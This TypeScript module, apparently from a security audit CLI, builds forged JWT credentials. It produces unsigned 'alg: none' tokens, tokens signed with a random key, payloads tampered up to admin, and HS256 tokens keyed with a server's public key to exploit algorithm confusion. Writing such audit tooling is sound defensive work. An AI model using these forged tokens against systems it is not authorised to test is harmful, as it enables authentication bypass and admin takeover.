/**
 * The forged credentials the audit sends (an unsigned token with `alg` none, one signed with a random
 * key, a valid token with its claims changed, an HS256 token keyed with the server's public key),
 * built with `node:crypto` alone so the CLI needs no JWT library.
 *
 * @module
 */
import { createHmac, createPublicKey, type JsonWebKey, randomBytes } from 'node:crypto';

const b64 = (o: unknown): string => Buffer.from(JSON.stringify(o)).toString('base64url');

/** Admin-looking claims that expire in 2100. */
const CLAIMS = { sub: 'admin', roles: ['admin'], exp: 4_102_444_800 };

/** A JWT with `alg: none` and an admin-looking payload. */
export function unsignedToken(): string {
  return `${b64({ alg: 'none', typ: 'JWT' })}.${b64(CLAIMS)}.`;
}

/** An HS256 JWT signed with a fresh random key: well formed, valid claims, wrong signature. */
export function wrongKeyToken(): string {
  const input = `${b64({ alg: 'HS256', typ: 'JWT' })}.${b64({ ...CLAIMS, iat: Math.floor(Date.now() / 1000) })}`;
  const sig = createHmac('sha256', randomBytes(32)).update(input).digest('base64url');
  return `${input}.${sig}`;
}

/** The payload of a compact JWT, or `undefined` when it is not one. */
export function decodePayload(token: string): Record<string, unknown> | undefined {
  const part = token.split('.')[1];
  if (part === undefined) return undefined;
  try {
    const v = JSON.parse(Buffer.from(part, 'base64url').toString('utf8')) as unknown;
    return v && typeof v === 'object' && !Array.isArray(v)
      ? (v as Record<string, unknown>)
      : undefined;
  } catch {
    return undefined;
  }
}

/**
 * `token` with its payload raised to admin (`sub`, `roles`, `role`, `admin`) and its header and
 * signature kept: a server that does not verify the signature over the payload lets it in.
 * `undefined` when `token` is not a compact JWT.
 */
export function tamperedToken(token: string): string | undefined {
  const [header, , signature] = token.split('.');
  const claims = decodePayload(token);
  if (header === undefined || signature === undefined || claims === undefined) return undefined;
  const raised = { ...claims, sub: 'admin', roles: ['admin'], role: 'admin', admin: true };
  return `${header}.${b64(raised)}.${signature}`;
}

/**
 * An HS256 JWT whose HMAC key is `key` (the text of the server's public key: the RS256 → HS256
 * confusion a verifier falls for when it lets the token's `alg` pick how its key is used).
 * `claims` default to the admin-looking ones; a fresh `iat` and a far `exp` are set.
 */
export function hmacKeyedToken(
  key: string,
  claims?: Record<string, unknown>,
  kid?: string,
): string {
  const now = Math.floor(Date.now() / 1000);
  const header = { alg: 'HS256', typ: 'JWT', ...(kid !== undefined ? { kid } : {}) };
  const input = `${b64(header)}.${b64({ ...(claims ?? CLAIMS), iat: now, exp: now + 600 })}`;
  return `${input}.${createHmac('sha256', key).update(input).digest('base64url')}`;
}

/** One HMAC key a confused verifier might use, with where it came from (for the evidence). */
export interface ConfusionKey {
  readonly key: string;
  readonly what: string;
  readonly kid?: string;
}

/**
 * The texts a confused verifier may take as the HMAC secret of a PEM public key: the file as
 * given, and its trimmed form with one final newline (libraries read it either way).
 */
export function keysFromPem(pem: string): ConfusionKey[] {
  const normalised = `${pem.trim()}\n`;
  const keys: ConfusionKey[] = [{ key: pem, what: 'the PEM file as given' }];
  if (normalised !== pem) keys.push({ key: normalised, what: 'the PEM, trimmed' });
  return keys;
}

/**
 * The texts a confused verifier may take as the HMAC secret of a JWKS's first RSA or EC key: the
 * SPKI PEM derived from it, and its JWK JSON as served. At most two: each is a forged credential,
 * and a guarded server bans after about five.
 */
export function keysFromJwks(jwks: unknown): ConfusionKey[] {
  const list = (jwks as { keys?: unknown } | null)?.keys;
  if (!Array.isArray(list)) return [];
  const jwk = list.find(
    (k): k is JsonWebKey & { kid?: string } =>
      !!k &&
      typeof k === 'object' &&
      ((k as JsonWebKey).kty === 'RSA' || (k as JsonWebKey).kty === 'EC'),
  );
  if (!jwk) return [];
  const kid = typeof jwk.kid === 'string' ? { kid: jwk.kid } : {};
  const keys: ConfusionKey[] = [];
  try {
    const pem = createPublicKey({ key: jwk, format: 'jwk' }).export({
      type: 'spki',
      format: 'pem',
    });
    keys.push({ key: String(pem), what: 'the PEM of the JWKS key', ...kid });
  } catch {
    // Not importable: the JSON text is still a key a confused verifier could use.
  }
  keys.push({ key: JSON.stringify(jwk), what: 'the JWK JSON', ...kid });
  return keys;
}
